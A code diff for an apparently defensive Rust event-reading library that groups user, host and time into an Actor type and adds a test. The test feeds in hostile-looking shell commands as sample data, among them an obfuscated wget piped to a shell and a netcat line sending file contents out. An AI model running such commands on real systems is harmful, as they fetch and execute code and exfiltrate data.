@@ -9,7 +9,7 @@
 
 use std::sync::Arc;
 
-use ringtrue_core::{Event, Task};
+use ringtrue_core::{Event, EventTime, Task};
 use serde::{Deserialize, Serialize};
 
 use crate::evidence;
@@ -113,6 +113,40 @@ fn is_dropped(left_out: &LeftOut, task: &Task, role: Role) -> bool {
                 .any(|name| left_out.contains(name))
 }
 
+/// Who did something, and when.
+pub(crate) struct Actor {
+    user: Option<Arc<str>>,
+    host: Option<Arc<str>>,
+    time: EventTime,
+}
+
+impl Actor {
+    fn observation<'a>(&'a self, names: &'a [&'a str]) -> Observation<'a> {
+        Observation {
+            user: self.user.as_deref(),
+            host: self.host.as_deref(),
+            names,
+            time: Some(self.time),
+        }
+    }
+
+    /// Returns what a history takes in where the actor ran programs of these numbers, which `key` made.
+    pub(crate) fn seen(&self, key: &HistoryKey, programs: &[u64]) -> Seen {
+        Seen::of(&self.observation(&[]), key, 0).with_names(programs)
+    }
+}
+
+/// Returns who is behind an event; `None` if rows tell of no habits, or nobody knows when it happened.
+pub(crate) fn actor(spec: &ReaderSpec, event: &Event) -> Option<Actor> {
+    let habits = spec.habits?;
+    let named = |is_read, role| name(event, role).filter(|_| is_read);
+    Some(Actor {
+        user: named(habits.user, Role::User),
+        host: named(habits.host, Role::Host),
+        time: event.time?,
+    })
+}
+
 /// Returns what a history takes in of an event; `None` if rows tell of no habits, or nobody knows when it happened.
 pub(crate) fn seen(spec: &ReaderSpec, key: &HistoryKey, event: &Event) -> Option<Seen> {
     let most = spec.limits.history_event_names_max;
@@ -125,18 +159,10 @@ pub(crate) fn observed<T>(
     event: &Event,
     look: impl FnOnce(&Observation<'_>) -> T,
 ) -> Option<T> {
-    let habits = spec.habits?;
-    let time = Some(event.time?);
+    let actor = actor(spec, event)?;
     let programs = evidence::programs(spec, event);
     let names: Vec<&str> = programs.iter().map(String::as_str).collect();
-    let [user, host] = [(habits.user, Role::User), (habits.host, Role::Host)]
-        .map(|(is_read, role)| name(event, role).filter(|_| is_read));
-    Some(look(&Observation {
-        user: user.as_deref(),
-        host: host.as_deref(),
-        names: &names,
-        time,
-    }))
+    Some(look(&actor.observation(&names)))
 }
 
 /// Returns who is named in a role; `None` of an empty name.
@@ -149,9 +175,12 @@ fn name(event: &Event, role: Role) -> Option<Arc<str>> {
 
 #[cfg(test)]
 mod tests {
-    use ringtrue_core::Kind;
+    use ringtrue_core::{Field, Kind, Limits, Trust, Value};
 
     use super::*;
+    use crate::reader::{Reading, SignalReader};
+    use crate::table::TableEncoder;
+    use crate::text::TextParameters;
 
     const BOTH: Actors = Actors {
         user: true,
@@ -184,6 +213,71 @@ mod tests {
         assert_eq!(read(&task, BOTH), ["user", "host"]);
         task.columns.drop = vec!["Auid".to_owned(), "host".to_owned()];
         assert!(HabitSpec::of(&task, BOTH).is_none());
+    }
+
+    fn event(kind: Kind, evidence: &str, time: Option<i64>) -> Event {
+        let fields = [
+            (kind.evidence().unwrap(), evidence),
+            ("user", "ada"),
+            ("host", ""),
+        ];
+        Event {
+            kind,
+            time: time.map(EventTime),
+            label_known: None,
+            label: None,
+            source: None,
+            trust: Trust::default(),
+            family: None,
+            group: None,
+            fields: fields
+                .map(|(name, text)| Field {
+                    name: Arc::from(name),
+                    value: Value::Text(Arc::from(text)),
+                })
+                .into(),
+        }
+    }
+
+    #[test]
+    fn reading_a_row_tells_what_is_seen_without_another_parse() {
+        let long = "ls; ".repeat(60) + "sh -c 'cat x | nc h 1'";
+        for (kind, evidence) in [
+            (Kind::Command, "sudo w'g'et -q x | sh -c 'id; ls'"),
+            (Kind::Command, "[\"/bin/sh\", \"-c\", \"echo a; id\"]"),
+            (Kind::Command, &long),
+            (
+                Kind::Session,
+                "[\"id; uname -a\", \"[\\\"ls\\\", \\\"-l\\\"]\"]",
+            ),
+            (Kind::Session, &long),
+            (Kind::Session, ""),
+        ] {
+            let reader = SignalReader::new(ReaderSpec {
+                kind,
+                derived: Vec::new(),
+                table: TableEncoder {
+                    columns: Vec::new(),
+                },
+                foreign: None,
+                habits: HabitSpec::of(&Task::assumed(kind), BOTH),
+                email: ringtrue_core::task::EmailOptions::default(),
+                text: TextParameters::default(),
+                limits: Limits {
+                    history_event_names_max: 50,
+                    ..Limits::default()
+                },
+            })
+            .unwrap();
+            let mut reading = Reading::default();
+            for time in [Some(5), None, Some(7)] {
+                let event = event(kind, evidence, time);
+                reader.read(&event, &mut reading);
+                let seen = reading.take_seen();
+                assert_eq!(seen, reader.seen(&event), "{evidence}");
+                assert_eq!(seen.is_some(), time.is_some(), "{evidence}");
+            }
+        }
     }
 
     #[test]
